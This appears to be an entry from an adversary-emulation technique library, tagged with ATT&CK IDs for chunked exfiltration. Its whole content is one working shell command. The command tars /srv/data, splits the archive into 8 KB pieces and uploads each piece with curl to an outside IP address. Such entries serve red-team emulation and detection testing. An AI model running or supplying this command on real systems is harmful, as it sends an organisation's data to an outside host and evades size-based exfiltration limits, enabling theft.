# title: An archive is sent in small pieces
# technique: T1030 T1041
# needs: split curl

tar cf /tmp/a.tar /srv/data 2>/dev/null; cd /tmp && split -b 8k a.tar p. && for p in p.*; do curl -s -T "$p" http://192.88.99.7/; done
